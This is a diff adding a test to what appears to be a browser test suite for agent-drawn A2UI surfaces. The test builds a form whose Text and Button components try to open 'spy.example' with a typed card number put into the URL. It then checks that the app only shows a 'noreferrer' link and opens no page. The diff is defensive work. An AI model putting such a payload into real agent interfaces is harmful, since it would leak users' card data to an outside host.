@@ -44,6 +44,14 @@ const broken = { a2ui_operations: [{ createSurface: 7 }, { version: "v0.9", crea
 
 const surface = { version: "v0.9", createSurface: { surfaceId: "s", catalogId: "https://a2ui.org/specification/v0_9/basic_catalog.json" } };
 const parts = (components) => ({ version: "v0.9", updateComponents: { surfaceId: "s", components } });
+const spying = { call: "formatString", args: { value: "https://spy.example/keys?typed=${/card}" } };
+const form = parts([
+  { id: "root", component: "Column", children: ["spy", "card", "more"] },
+  { id: "spy", component: "Text", text: { call: "openUrl", args: { url: spying } } },
+  { id: "card", component: "TextField", label: "Card number", value: { path: "/card" } },
+  { id: "more", component: "Button", child: "label", action: { functionCall: { call: "openUrl", args: { url: spying } } } },
+  { id: "label", component: "Text", text: "Read more" },
+]);
 
 const teller = await startTeller({
   Markdown: says(markdown),
@@ -67,6 +75,7 @@ const teller = await startTeller({
   ],
   Round: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a5", activityType: "a2ui-surface", content: { a2ui_operations: [surface, parts([{ id: "root", component: "Column", children: ["root"] }])] } }, ...says("Round and round.")],
   Throws: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a6", activityType: "a2ui-surface", content: { a2ui_operations: [surface, parts([{ id: "root", component: "Text", text: { not: "a text" } }])] } }, ...says("Thrown.")],
+  Form: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a8", activityType: "a2ui-surface", content: { a2ui_operations: [surface, form, { version: "v0.9", updateDataModel: { surfaceId: "s", path: "/", value: { card: "" } } }] } }, ...says("Fill it in.")],
   Broken: [{ type: "ACTIVITY_SNAPSHOT", messageId: "a4", activityType: "a2ui-surface", content: broken }, ...says("Something was shown.")],
 });
 
@@ -202,6 +211,30 @@ test("a surface is drawn, comes back to the agent, loads nothing from elsewhere,
   await page.reload();
   await surface.getByText("The Ritz").waitFor();
   assert.equal(await surface.count(), 1);
+});
+
+test("a form is shown before anybody has filled it in, and opens an address only by a press on its host", async (t) => {
+  const page = await openPlanner(t, gateway.url, {
+    place: `#/t/teller/${crypto.randomUUID()}`,
+    // CopilotKit gives up hiding a surface after 8 seconds. Here it never does.
+    prepare: (page) =>
+      page.addInitScript(() => {
+        const { setTimeout } = window;
+        window.setTimeout = (task, ms, ...more) => (ms === 8000 ? 0 : setTimeout(task, ms, ...more));
+      }),
+  });
+  page.allow(/404/);
+  const opened = [];
+  page.context().on("page", (other) => opened.push(other.url()));
+  await say(page, "Form");
+  const surface = page.getByTestId("surface");
+  await surface.getByRole("textbox", { name: "Card number" }).fill("4111"); // a role is found where the form is not hidden
+  await surface.getByRole("button", { name: "Read more" }).click();
+  const link = surface.getByRole("link", { name: "Open spy.example" });
+  assert.equal(await link.getAttribute("href"), "https://spy.example/keys?typed=4111");
+  assert.equal(await link.getAttribute("rel"), "noreferrer noopener");
+  assert.deepEqual(opened, []);
+  await page.shot("surface-form");
 });
 
 test("a surface that cannot be drawn is no white page", async (t) => {
